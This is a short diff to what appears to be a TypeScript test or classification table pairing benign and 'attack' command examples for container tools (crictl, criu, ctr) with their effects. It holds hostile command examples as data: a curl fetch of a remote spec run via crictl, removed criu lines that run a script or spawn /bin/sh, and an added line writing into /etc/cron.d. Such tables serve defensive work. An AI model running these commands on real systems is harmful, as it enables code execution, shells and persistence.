@@ -46,11 +46,8 @@ export const containers2: ExampleTable = {
       'curl -so p.json https://example.org/x && crictl runp p.json → execute ‹https://example.org/x›',
   },
   criu: {
-    use: 'criu dump -t 1234 -D images -o dump.log → write dump.log',
-    attack: [
-      'criu restore -D images --action-script=/tmp/x → run /tmp/x',
-      'criu restore -D images --exec-cmd=/bin/sh → shell sh',
-    ],
+    use: 'criu -o check.log check → write check.log',
+    attack: 'criu -o /etc/cron.d/job check → write /etc/cron.d/job',
   },
   'ctr run': {
     use: 'ctr run docker.io/library/alpine:3 web cat notes.txt → read notes.txt',
